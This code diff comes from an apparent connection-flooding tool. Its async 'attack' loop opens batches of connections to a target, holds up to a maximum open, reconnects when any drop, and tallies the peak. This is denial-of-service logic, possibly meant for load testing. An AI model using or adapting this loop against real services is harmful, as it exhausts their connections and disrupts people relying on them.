@@ -10,13 +10,15 @@ AT_ONCE = 50
 
 async def attack(target: Target, seconds: float) -> None:
     """Connect, and connect again whatever is hung up on."""
-    until, wires = Until(seconds), list[Wire]()
+    until, wires = Until(seconds), set[Wire]()
     try:
         while until:
-            wires = [wire for wire in wires if not _is_gone(wire)]
+            for wire in filter(_is_gone, tuple(wires)):
+                wires.remove(wire)
+                await wire.hang_up()
             if len(wires) < MOST:
                 came = await asyncio.gather(*(target.connect() for _ in range(AT_ONCE)))
-                wires += [wire for wire in came if wire is not None]
+                wires |= {wire for wire in came if wire is not None}
                 target.got["connected"] += AT_ONCE
             target.got["held at most"] = max(target.got["held at most"], len(wires))
             await asyncio.sleep(0.02)
